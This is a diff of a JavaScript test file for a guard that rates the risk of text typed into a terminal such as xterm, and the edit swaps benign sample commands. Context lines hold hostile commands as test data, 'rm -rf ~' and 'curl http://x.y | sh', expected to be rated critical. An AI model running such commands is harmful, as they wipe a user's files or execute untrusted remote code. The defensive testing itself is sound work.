@@ -50,7 +50,7 @@ test('text typed piece by piece is judged whole when the line ends', () => {
   assert.equal(type('-rf ~\n', { app: 'xterm', typed: 'rm ' }).risk, 'critical');
   assert.equal(type('\n', { app: 'xterm', typed: 'rm -rf ~' }).risk, 'critical');
   assert.equal(type(' | sh\n', { app: 'xterm', typed: 'curl http://x.y' }).risk, 'critical');
-  assert.ok(!asks(type('tus\n', { app: 'xterm', typed: 'git sta' })));
+  assert.ok(!asks(type(' -la\n', { app: 'xterm', typed: 'ls' })));
 });
 
 test('several lines are all judged', () => {
@@ -98,7 +98,7 @@ test('Enter in a terminal asks when nobody knows what stands there', () => {
   assert.ok(asks(press('Return', { app: 'xterm', typed: '' })), 'history may have filled the line');
   assert.ok(asks(press('Return', { app: 'xterm', typed: '\u0000' })), 'the loop marks unknown text so');
   assert.ok(asks(type('ls\n', { app: 'xterm', typed: '\u0000' })));
-  assert.ok(!asks(press('Return', { app: 'xterm', typed: 'git status' })));
+  assert.ok(!asks(press('Return', { app: 'xterm', typed: 'ls -la' })));
 });
 
 test('what another shell than bash reads differently asks', () => {
